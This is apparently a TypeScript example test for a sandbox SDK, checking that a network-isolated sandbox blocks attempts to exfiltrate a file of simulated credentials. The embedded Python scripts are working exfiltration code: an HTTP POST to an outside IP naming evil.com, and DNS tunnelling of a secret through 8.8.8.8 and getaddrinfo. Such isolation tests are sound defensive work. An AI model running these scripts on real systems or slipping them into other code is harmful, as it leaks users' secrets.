/**
 * The scenario every change must keep working, with the declaw TypeScript SDK (the same
 * walkthrough as network_exfiltration.py): a sandbox without internet access holds secrets in a
 * file; code inside tries to send them out over TCP and over DNS (a real UDP query to
 * 8.8.8.8:53, and getaddrinfo) and is blocked; the file is still readable through the API and
 * inside the sandbox. Prints a [PASS] or [FAIL] line per check and exits non-zero if any fails.
 *
 * Needs a running declawd (DECLAW_SOCKET, else /run/declaw/declaw.sock). Built with the package:
 *     cd clients/js && npm ci && npm run build && npm run example
 * (node dist/examples/network_exfiltration.js).
 *
 * The addresses are public on purpose: the sandbox's network namespace is empty (loopback only),
 * so no packet can leave it, which is what this shows.
 */
import { Sandbox, SandboxError } from 'declaw'

const SECRETS = 'API_KEY=sk-secret-12345\nDB_PASSWORD=hunter2\n'

const EXFIL_SCRIPT = `\
import socket
data = open("/tmp/secrets.txt").read()
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(("93.184.216.34", 80))  # example.com
    s.sendall(b"POST /collect HTTP/1.1\\r\\nHost: evil.com\\r\\n\\r\\n" + data.encode())
    s.close()
    print("EXFILTRATED: the connection succeeded")
except Exception as e:
    print(f"BLOCKED: {type(e).__name__}: {e}")
`

const DNS_EXFIL_SCRIPT = `\
import socket
secret = open("/tmp/secrets.txt").read().split("\\n")[0].split("=")[1]
# A DNS query for <secret>.example.com, sent straight to a public resolver.
query = (b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00"
         + bytes([len(secret)]) + secret.encode()
         + b"\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01")
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(5)
    u.sendto(query, ("8.8.8.8", 53))
    print("EXFILTRATED: the UDP query to 8.8.8.8:53 was sent")
except OSError as e:
    print(f"BLOCKED udp 8.8.8.8:53: {type(e).__name__}: {e}")
try:
    socket.getaddrinfo(secret + ".example.com", 80)
    print("EXFILTRATED: the name was resolved")
except OSError as e:
    print(f"BLOCKED getaddrinfo: {type(e).__name__}: {e}")
`

class Report {
  failures = 0

  banner(title: string): void {
    console.log(`\n--- ${title} ---`)
  }

  passed(what: string): void {
    console.log(`  [PASS] ${what}`)
  }

  failed(what: string): void {
    console.log(`  [FAIL] ${what}`)
    this.failures++
  }

  check(ok: boolean, what: string, why = ''): void {
    if (ok) this.passed(what)
    else this.failed(why ? `${what}: ${why}` : what)
  }
}

function show(output: string): void {
  for (const line of output.trim().split('\n')) console.log(`    ${line}`)
}

async function writeSecrets(sbx: Sandbox, report: Report): Promise<void> {
  const info = await sbx.files.write('/tmp/secrets.txt', SECRETS)
  report.check(info.size === SECRETS.length, 'wrote /tmp/secrets.txt with simulated credentials', `${info.size} bytes written`)
}

async function exfiltrateOverHttp(sbx: Sandbox, report: Report): Promise<void> {
  await sbx.files.write('/tmp/exfil_test.py', EXFIL_SCRIPT)
  const result = await sbx.commands.run('python3 /tmp/exfil_test.py', { timeoutMs: 15_000 })
  show(result.stdout + result.stderr)
  report.check(
    result.stdout.includes('BLOCKED') && !result.stdout.includes('EXFILTRATED'),
    'HTTP exfiltration was blocked',
    'the connection was not refused',
  )
}

async function exfiltrateOverDns(sbx: Sandbox, report: Report): Promise<void> {
  await sbx.files.write('/tmp/dns_exfil.py', DNS_EXFIL_SCRIPT)
  const result = await sbx.commands.run('python3 /tmp/dns_exfil.py', { timeoutMs: 30_000 })
  show(result.stdout + result.stderr)
  const blocked = result.stdout.split('BLOCKED').length - 1
  report.check(
    blocked === 2 && !result.stdout.includes('EXFILTRATED'),
    'DNS exfiltration was blocked (UDP query and getaddrinfo)',
    `${blocked} of 2 attempts blocked`,
  )
}

async function readLocally(sbx: Sandbox, report: Report): Promise<void> {
  const content = await sbx.files.read('/tmp/secrets.txt')
  report.check(content === SECRETS, 'secrets.txt read back intact through the API', `got ${JSON.stringify(content)}`)
  const inside = (await sbx.commands.run('cat /tmp/secrets.txt')).stdout
  report.check(inside === SECRETS, 'secrets.txt readable by code inside the sandbox', `got ${JSON.stringify(inside)}`)
}

function describe(error: unknown): string {
  return error instanceof Error ? `${error.name}: ${error.message}` : String(error)
}

async function main(): Promise<number> {
  const report = new Report()
  console.log('='.repeat(64))
  console.log('Network exfiltration prevention: declaw sandbox, TypeScript SDK')
  console.log('='.repeat(64))

  report.banner('1. Sandbox creation (allowInternetAccess: false)')
  let sbx: Sandbox
  try {
    sbx = await Sandbox.create({
      template: 'python',
      timeoutMs: 300_000,
      allowInternetAccess: false,
      metadata: { demo: 'network-exfiltration-ts' },
    })
  } catch (error) {
    report.failed(`could not create a sandbox: ${error instanceof SandboxError ? error.message : describe(error)}`)
    return 1
  }
  report.passed(`sandbox ${sbx.sandboxId} created without internet access`)

  const steps: Array<[string, () => Promise<void>]> = [
    ['2. Writing secrets into the sandbox', () => writeSecrets(sbx, report)],
    ['3. HTTP exfiltration over TCP (to 93.184.216.34:80)', () => exfiltrateOverHttp(sbx, report)],
    ['4. DNS exfiltration (a UDP query to 8.8.8.8:53, and getaddrinfo)', () => exfiltrateOverDns(sbx, report)],
    ['5. Local read still works', () => readLocally(sbx, report)],
  ]
  try {
    for (const [title, step] of steps) {
      report.banner(title)
      try {
        await step()
      } catch (error) {
        report.failed(describe(error))
      }
    }
  } finally {
    report.banner('6. Cleanup')
    try {
      report.check(await sbx.kill(), 'sandbox killed')
      report.check(!(await sbx.isRunning()), 'sandbox is no longer running')
      const live = (await Sandbox.list().nextItems()).map((info) => info.sandboxId)
      report.check(!live.includes(sbx.sandboxId), 'sandbox no longer listed as running')
    } catch (error) {
      report.failed(`cleanup: ${describe(error)}`)
    }
  }

  console.log()
  if (report.failures) {
    console.log(`${report.failures} CHECK(S) FAILED`)
    return 1
  }
  console.log('ALL CHECKS PASSED')
  return 0
}

main().then(
  (code) => {
    process.exitCode = code
  },
  (error) => {
    console.error(error)
    process.exitCode = 1
  },
)
